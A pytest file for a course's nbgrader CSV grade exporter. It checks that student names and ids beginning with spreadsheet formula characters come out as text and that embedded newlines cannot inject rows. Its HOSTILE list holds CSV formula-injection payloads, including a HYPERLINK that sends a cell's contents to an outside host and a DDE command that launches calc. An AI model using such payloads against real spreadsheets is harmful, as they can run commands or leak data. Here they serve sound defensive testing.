"""`nbgrader export`: what students are called does nothing in a spreadsheet, and all else is as nbgrader has it."""

import csv
from datetime import datetime

import pytest
from nbgrader.api import Gradebook
from nbgrader.apps import ExportApp
from nbgrader.plugins import CsvExportPlugin
from traitlets.config.loader import PyFileConfigLoader

from grader.files import ROOT
from grader.instructor.export import ExportGrades
from grader.tests.gradebooks import NAME, make_gradebook

PEOPLE = {
    "ada": {"last_name": "Lovelace", "first_name": "Ada", "email": "ada@uni.edu"},
    "bo_2": {"last_name": "O'Neill-Søndergaard", "first_name": "بهاره", "email": None},
    "-17": {"last_name": "-", "first_name": "+4.5", "email": "x=1@uni.edu"},
}
HOSTILE = [
    '=HYPERLINK("http://x.org/"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    " =1+1",
    "＝1+1",
    "-cmd|' /C calc'!A0",
]


@pytest.fixture
def gradebook(tmp_path):
    make_gradebook(tmp_path, {"ada": (1, 1, 2), "bo_2": (1, 0, None)})
    with Gradebook(f"sqlite:///{tmp_path / 'gradebook.db'}", "") as gradebook:
        for student, person in PEOPLE.items():
            gradebook.update_or_create_student(student, **person)
        gradebook.update_or_create_assignment(NAME, duedate=datetime(2026, 11, 1))
        submission = gradebook.find_submission(NAME, "ada")
        submission.timestamp = datetime(2026, 11, 2, 9, 30)
        for notebook in submission.notebooks:
            notebook.late_submission_penalty = 0.5
        gradebook.db.commit()
        yield gradebook


def exported(plugin, gradebook, path, **options) -> bytes:
    plugin(to=str(path), **options).export(gradebook)
    return path.read_bytes()


def rows(path) -> dict[str, dict[str, str]]:
    """By the student's id."""
    with path.open(newline="") as file:
        return {row["student_id"]: row for row in csv.DictReader(file)}


@pytest.mark.parametrize(
    "options", [{}, {"student": ["bo_2"]}, {"student": [17, "ada"], "assignment": [NAME]}, {"assignment": ["other"]}]
)
def test_an_ordinary_class_is_exported_as_by_nbgrader_byte_for_byte(gradebook, tmp_path, options):
    theirs = exported(CsvExportPlugin, gradebook, tmp_path / "theirs.csv", **options)
    assert exported(ExportGrades, gradebook, tmp_path / "ours.csv", **options) == theirs
    if not options:
        assert (
            b"homework3,2026-11-01 00:00:00,2026-11-02 09:30:00,ada,Lovelace,Ada,ada@uni.edu,4.0,0.5,3.5,4.0" in theirs
        )


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_that_begins_a_formula_is_text(gradebook, tmp_path, name):
    for field in ("last_name", "first_name", "email"):
        gradebook.update_or_create_student("ada", **{**PEOPLE["ada"], field: name})
        exported(ExportGrades, gradebook, tmp_path / "grades.csv")
        row = rows(tmp_path / "grades.csv")["ada"]
        assert row[field] == f"'{name}"
        assert (row["raw_score"], row["max_score"]) == ("4.0", "4.0")


def test_an_id_that_begins_a_formula_is_text_and_keeps_its_score(tmp_path):
    make_gradebook(tmp_path, {"=1+1": (1, 1, 2)})
    with Gradebook(f"sqlite:///{tmp_path / 'gradebook.db'}", "") as gradebook:
        assert b",'=1+1,,,,4.0,0.0,4.0,4.0\n" in exported(ExportGrades, gradebook, tmp_path / "grades.csv")


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("Doe, 10, 10", "Doe, 10, 10"),
        ('Doe "Jo"', 'Doe "Jo"'),
        ("Doe\nhomework3,,,eve,,,,10,0,10,10", "Doe homework3,,,eve,,,,10,0,10,10"),
        ("\r=1+1", "' =1+1"),
        ("\tDoe\x9b31m\a", " Doe 31m "),
    ],
)
def test_a_name_moves_no_score_and_makes_no_row(gradebook, tmp_path, name, shown):
    gradebook.update_or_create_student("ada", **{**PEOPLE["ada"], "last_name": name})
    exported(ExportGrades, gradebook, tmp_path / "grades.csv")
    found = rows(tmp_path / "grades.csv")
    assert set(found) == set(PEOPLE)
    assert found["ada"]["last_name"] == shown
    assert found["ada"]["score"] == "3.5"


def test_where_it_cannot_be_written_it_says_why(gradebook, tmp_path):
    with pytest.raises(SystemExit, match=r"missing/grades\.csv cannot be written: No such file or directory"):
        exported(ExportGrades, gradebook, tmp_path / "missing" / "grades.csv")


def test_the_courses_settings_choose_it():
    settings = PyFileConfigLoader("nbgrader_config.py", path=str(ROOT)).load_config()
    assert ExportApp(config=settings).plugin_class is ExportGrades
